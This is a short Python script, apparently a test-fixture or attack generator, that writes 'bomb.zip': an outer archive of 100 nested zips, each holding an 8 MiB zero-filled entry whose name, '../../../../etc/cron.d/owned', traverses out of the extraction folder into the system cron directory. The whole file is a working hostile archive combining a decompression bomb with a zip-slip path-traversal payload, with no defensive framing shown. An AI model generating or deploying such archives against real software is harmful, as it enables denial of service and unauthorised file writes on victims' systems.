import io
import zipfile

with zipfile.ZipFile("/outputs/bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as small:
        small.writestr("../../../../etc/cron.d/owned", b"\0" * (8 << 20))
    for number in range(100):
        archive.writestr(f"{number}.zip", inner.getvalue())
